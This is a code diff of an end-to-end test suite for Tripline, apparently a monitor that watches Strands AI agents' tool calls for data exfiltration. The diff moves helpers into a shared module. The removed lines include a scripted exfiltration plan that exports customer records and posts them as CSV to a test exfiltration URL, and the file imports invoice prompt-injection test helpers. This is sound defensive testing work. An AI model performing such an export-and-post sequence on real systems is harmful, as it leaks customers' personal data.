@@ -20,18 +20,31 @@
  * Tripline sees only if it reads both, and the events stored in ClickHouse hold the counterparties as keyed hashes
  * and none of the raw values.
  */
-import { createHash } from 'node:crypto';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { AgentEvent, ToolCallDetail } from '../../schemas/events.ts';
-import { TEST_AGENT_TOKEN, TEST_AUTH_ENV } from '../helpers/auth.ts';
-import { EXFIL_URL, VERDICT_MS, baselineView, benignCalls, getJson, rng, taskView } from '../helpers/agent-plans.ts';
+import { TEST_AGENT_TOKEN } from '../helpers/auth.ts';
+import {
+  EXFIL_URL,
+  MIXED_BENIGN,
+  SUITE_TENANT,
+  VERDICT_MS,
+  WARMUP_RUN,
+  WARMUP_TASKS,
+  baselineView,
+  benignCalls,
+  exfiltrationCalls,
+  getJson,
+  rng,
+  startSuiteTripline,
+  storedCounterpartyKey,
+  taskView,
+} from '../helpers/agent-plans.ts';
 import type { BaselineView, Call, PlannedTask, TaskView } from '../helpers/agent-plans.ts';
 import { invoiceInjectionTests, readStoredEvents } from '../helpers/invoice-injection.ts';
 import { pythonFor, runPythonAgent } from '../helpers/python.ts';
-import { startTriplineProcess } from '../helpers/tripline-process.ts';
 import type { TriplineProcess } from '../helpers/tripline-process.ts';
 import { waitFor } from '../helpers/wait.ts';
 
@@ -67,13 +80,9 @@ const CONVENTIONS: Conventions[] = [
 ];
 
 const COUNTERPARTY_KEY = 'e2e-strands-counterparty-key-8d2e41';
-const TENANT = 'default';
-const keyOf = (kind: string, value: string): string =>
-  createHash('sha256').update(`${COUNTERPARTY_KEY}\n${TENANT}\n${kind}\n${value}`).digest('hex').slice(0, 16);
+const TENANT = SUITE_TENANT;
+const keyOf = (kind: string, value: string): string => storedCounterpartyKey(COUNTERPARTY_KEY, kind, value);
 
-const WARMUP_TASKS = 20;
-const WARMUP_RUN = 25;
-const MIXED_BENIGN = 4;
 const EXFIL_HOST = new URL(EXFIL_URL).hostname;
 
 interface RanTask {
@@ -83,27 +92,13 @@ interface RanTask {
   calls: number;
 }
 
-function exfiltrationCalls(): Call[] {
-  return [
-    { tool: 'export_customers', args: { limit: 50 } },
-    { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email\n1,Customer 1,customer1@shop.example\n...' } },
-  ];
-}
-
 describe('Strands Agents against Tripline, tool content from span events and from attributes', () => {
   const dataDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-strands-'));
   const workDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-strands-plans-'));
   const runId = Date.now().toString(36);
   let tripline: TriplineProcess;
 
-  const startTripline = (): Promise<TriplineProcess> =>
-    startTriplineProcess({
-      ...TEST_AUTH_ENV,
-      TRIPLINE_DATA_DIR: dataDir,
-      TRIPLINE_WARMUP_TASKS: String(WARMUP_TASKS),
-      TRIPLINE_COUNTERPARTY_KEY: COUNTERPARTY_KEY,
-      LOG_LEVEL: 'warn',
-    });
+  const startTripline = (): Promise<TriplineProcess> => startSuiteTripline(dataDir, COUNTERPARTY_KEY);
 
   /** The events ClickHouse stored for these tasks: Tripline stopped to read them, then started on the same data. */
   const storedEvents = async (taskIds: readonly string[]): Promise<AgentEvent[]> => {
